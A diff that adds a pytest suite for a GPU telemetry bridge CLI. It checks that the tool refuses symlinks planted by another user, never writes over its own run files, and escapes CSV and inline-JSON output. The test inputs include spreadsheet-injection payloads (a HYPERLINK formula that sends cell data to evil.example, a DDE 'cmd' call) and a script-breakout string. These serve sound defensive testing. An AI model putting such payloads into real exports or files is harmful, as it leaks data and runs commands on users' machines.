@@ -1,0 +1,253 @@
+"""Root writes only what it owns (issue 43 items 2-7): no output through a link, no output over the run's own
+files, secrets and locks only the owner can touch, escaping at the CSV and inline-JSON boundaries, bad numbers in
+the events file and the phase manifest named, and a failed start that leaves nothing behind.
+
+Where ownership matters the neighbour is real: a process forked here that drops to uid 65534 (`nobody`) before
+it plants its file, as a second user on a shared machine would (the `root` marker: skipped when not root).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import tempfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from bridge.cli import main
+
+NEIGHBOUR = 65534
+QUIET = {"AIPERF_GPU_DEFAULT_DCGM_ENDPOINTS": "[]", "DCGM_BRIDGE_CONNECT_TIMEOUT": "0.3",
+         "DCGM_BRIDGE_HEALTH_PORT": "0"}
+T0 = 1_796_201_298_411_830_000
+as_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as a second uid; CI runs as root")
+
+
+def as_neighbour(action: Callable[[], object]) -> None:
+    """`action` run by another user: a forked child that drops to uid/gid 65534 first. Its exception (repr)
+    fails the test; nothing of it runs as root."""
+    read, write = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # the child: never returns into pytest
+        os.close(read)
+        try:
+            os.setgroups([])
+            os.setgid(NEIGHBOUR)
+            os.setuid(NEIGHBOUR)
+            action()
+            os.write(write, b"ok")
+        except BaseException as exc:
+            os.write(write, repr(exc).encode()[:4000])
+        finally:
+            os._exit(0)
+    os.close(write)
+    with os.fdopen(read, "rb") as answer:
+        said = answer.read()
+    os.waitpid(pid, 0)
+    assert said == b"ok", said.decode(errors="replace")
+
+
+@pytest.fixture
+def team() -> Iterator[Path]:
+    """A folder everyone may write into (mode 0777, no sticky bit), as a team's scratch folder often is; outside
+    pytest's own 0700 folders, so the neighbour can reach it."""
+    path = Path(tempfile.mkdtemp(prefix="dcgm-bridge-team-"))
+    path.chmod(0o777)
+    yield path
+    shutil.rmtree(path)
+
+
+def root_only_file(path: Path, text: str = "root's own\n") -> Path:
+    path.write_text(text)
+    path.chmod(0o600)
+    return path
+
+
+def cli(args: list[str], env: dict[str, str] | None = None):
+    result = CliRunner().invoke(main, args, env={**QUIET, **(env or {})})
+    assert "Traceback" not in result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    return result
+
+
+def _record_log(folder: Path) -> Path:
+    from tests.report.helpers import S, rec, write_log
+
+    folder.mkdir(parents=True, exist_ok=True)
+    return write_log(folder / "gpu_telemetry_export.jsonl",
+                     [rec(T0 + i * S, {"nvidia_power_usage": 300.0}) for i in range(5)])
+
+
+def _window() -> list[str]:
+    return ["--start-ns", str(T0), "--end-ns", str(T0 + 4 * 10**9)]
+
+
+# -- 2. no output through a link --------------------------------------------------------------------------
+@pytest.mark.root
+@as_root
+def test_profile_html_over_a_neighbours_link_exits_2_and_the_target_is_untouched(tmp_path: Path, team: Path) -> None:
+    victim = root_only_file(tmp_path / "shadow")
+    as_neighbour(lambda: (team / "report.html").symlink_to(victim))
+    ran = tmp_path / "ran"
+    result = cli(["profile", "--html", str(team / "report.html"), "--artifact-dir", str(tmp_path / "a"), "--",
+                  "touch", str(ran)])
+    assert result.exit_code == 2, result.output
+    assert f"Error: --html {team / 'report.html'} is a symbolic link: remove it" in result.output
+    assert victim.read_text() == "root's own\n" and not ran.exists() and not (tmp_path / "a").exists()
+
+
+@pytest.mark.root
+@as_root
+@pytest.mark.parametrize("flag", ["--html", "-o"])
+def test_report_outputs_over_a_neighbours_link_exit_2_and_the_target_is_untouched(tmp_path: Path, team: Path,
+                                                                                  flag: str) -> None:
+    log = _record_log(tmp_path / "run")
+    victim = root_only_file(tmp_path / "shadow", '{"theirs": 1}')
+    as_neighbour(lambda: (team / "out").symlink_to(victim))
+    result = cli(["report", "--jsonl", str(log), *_window(), flag, str(team / "out")])
+    assert result.exit_code == 2, result.output
+    assert "is a symbolic link: remove it" in result.output and str(team / "out") in result.output
+    assert victim.read_text() == '{"theirs": 1}'
+
+
+def test_a_link_planted_after_the_check_is_refused_by_the_writer_itself(tmp_path: Path) -> None:
+    from bridge.files import LinkRefused, write_atomically
+    from bridge.report.html import write_html
+
+    victim = root_only_file(tmp_path / "victim")
+    (tmp_path / "page.html").symlink_to(victim)
+    with pytest.raises(LinkRefused, match="page.html is a symbolic link"):
+        write_html(_report(), None, tmp_path / "page.html")
+    with pytest.raises(LinkRefused):
+        write_atomically(tmp_path / "page.html", b"x")
+    assert victim.read_text() == "root's own\n" and (tmp_path / "page.html").is_symlink()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["page.html", "victim"]  # no temporary left
+
+
+def test_the_writer_replaces_a_file_in_one_step_keeping_its_mode(tmp_path: Path) -> None:
+    from bridge.files import write_atomically
+
+    target = tmp_path / "report.html"
+    target.write_text("old")
+    target.chmod(0o640)
+    held = target.open()  # a reader of the old file keeps reading the old file: a new one was renamed over it
+    write_atomically(target, b"new")
+    assert held.read() == "old" and target.read_text() == "new" and target.stat().st_mode & 0o777 == 0o640
+    held.close()
+
+
+def test_the_start_check_neither_follows_a_link_nor_changes_the_file(tmp_path: Path) -> None:
+    from bridge.files import write_problem
+
+    existing = tmp_path / "page.html"
+    existing.write_text("kept")
+    before = existing.stat()
+    assert write_problem(existing) is None
+    after = existing.stat()
+    assert existing.read_text() == "kept" and (after.st_mtime_ns, after.st_size) == (before.st_mtime_ns, before.st_size)
+    (tmp_path / "link.html").symlink_to(tmp_path / "nowhere")
+    problem = write_problem(tmp_path / "link.html")
+    assert problem is not None and "is a symbolic link" in problem and not (tmp_path / "nowhere").exists()
+
+
+# -- 3. an output that is one of the run's own files ------------------------------------------------------
+@pytest.mark.parametrize(("name", "what"), [
+    ("gpu_telemetry_export.jsonl", "the run's record log"),
+    ("gpu_telemetry_events.jsonl", "the run's events file"),
+    (".dcgm-bridge.lock", "the folder's lock file"),
+    ("profile_export_aiperf.json", "the run's report"),
+])
+def test_profile_refuses_an_html_path_that_is_one_of_the_runs_own_files(tmp_path: Path, name: str,
+                                                                       what: str) -> None:
+    folder = tmp_path / "a"
+    ran = tmp_path / "ran"
+    result = cli(["profile", "--html", str(folder / name), "--artifact-dir", str(folder), "--", "touch", str(ran)])
+    assert result.exit_code == 2, result.output
+    assert f"Error: --html {folder / name} is {what}" in result.output
+    assert not ran.exists() and not folder.exists()
+
+
+def test_profile_refuses_an_html_path_inside_a_report_spool(tmp_path: Path) -> None:
+    spool = tmp_path / "a" / ".dcgm-bridge-spool-run-x-1234"
+    spool.mkdir(parents=True)
+    result = cli(["profile", "--html", str(spool / "page.html"), "--artifact-dir", str(tmp_path / "a"), "--",
+                  "true"])
+    assert result.exit_code == 2 and "is in a run's report spool" in result.output, result.output
+
+
+def test_profile_refuses_a_hard_link_to_the_record_log(tmp_path: Path) -> None:
+    folder = tmp_path / "a"
+    log = _record_log(folder)
+    (tmp_path / "alias.html").hardlink_to(log)
+    kept = log.read_bytes()
+    result = cli(["profile", "--html", str(tmp_path / "alias.html"), "--artifact-dir", str(folder), "--", "true"])
+    assert result.exit_code == 2 and "is the run's record log" in result.output, result.output
+    assert log.read_bytes() == kept
+
+
+@pytest.mark.parametrize("flag", ["--html", "-o"])
+def test_report_refuses_to_write_over_its_own_record_log(tmp_path: Path, flag: str) -> None:
+    log = _record_log(tmp_path)
+    kept = log.read_bytes()
+    result = cli(["report", "--jsonl", str(log), *_window(), flag, str(log)])
+    assert result.exit_code == 2, result.output
+    assert f"{log} is the record log" in result.output and log.read_bytes() == kept
+
+
+# -- 5. escaping at every output boundary -----------------------------------------------------------------
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"NVIDIA H200")'
+HOSTILE_HOST = "@SUM(1+1)*cmd|' /C calc'!A0"
+SCRIPT_HOST = "node1<!--<script>\u2028&</script>"
+
+
+def _report(hostname: str = "node-a", name: str = "NVIDIA H200"):
+    from bridge.report import build_report
+    from bridge.report.window import explicit_window
+    from tests.report.helpers import S, rec
+
+    records = [rec(T0 + i * S, {"nvidia_power_usage": 300.0 + i, "nvidia_temperature": 60.0}, host=hostname,
+                   model=name) for i in range(5)]
+    return build_report(records, window=explicit_window(T0, T0 + 4 * S))
+
+
+@pytest.mark.parametrize(("name", "host"), [(HOSTILE_NAME, "node1"), ("NVIDIA H200", HOSTILE_HOST),
+                                            ("+1", "-2"), ("\tname", "\rhost")])
+def test_csv_text_cells_from_the_exporter_are_never_formulas(name: str, host: str) -> None:
+    from bridge.report.write import csv_section
+
+    rows = [row for row in csv.reader(io.StringIO(csv_section(_report(host, name)))) if row]
+    header = rows[0]
+    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+    assert body
+    for row in body:
+        for column, value in (("GPU_Name", name), ("Hostname", host)):  # OWASP: a quote in front, or as it was
+            assert row[column] == ("'" + value if value[0] in "=+-@\t\r" else value)
+        for stat in ("avg", "min", "max"):
+            float(row[stat])  # numeric cells as AIPerf writes them
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_a_negative_number_stays_a_number_in_the_csv() -> None:
+    from bridge.report.write import csv_text, format_csv_number
+
+    assert format_csv_number(-5.0) == "-5.00" and csv_text("-5.00") == "'-5.00"  # only text cells are escaped
+
+
+def test_inline_chart_json_cannot_end_the_script_or_start_markup() -> None:
+    from bridge.report.html import render_html
+
+    page = render_html(_report(SCRIPT_HOST))
+    data = re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', page, re.S)
+    assert data is not None
+    inline = data.group(1)
+    assert not set(inline) & {"<", ">", "&", "\u2028", "\u2029"}
+    assert "\\u003c!--\\u003cscript\\u003e\\u2028\\u0026\\u003c/script\\u003e" in inline
+    assert SCRIPT_HOST in json.dumps(json.loads(inline), ensure_ascii=False)  # the same value, read back
+    assert page.count("<script") == 2  # the data and the page's own script, nothing the hostname opened
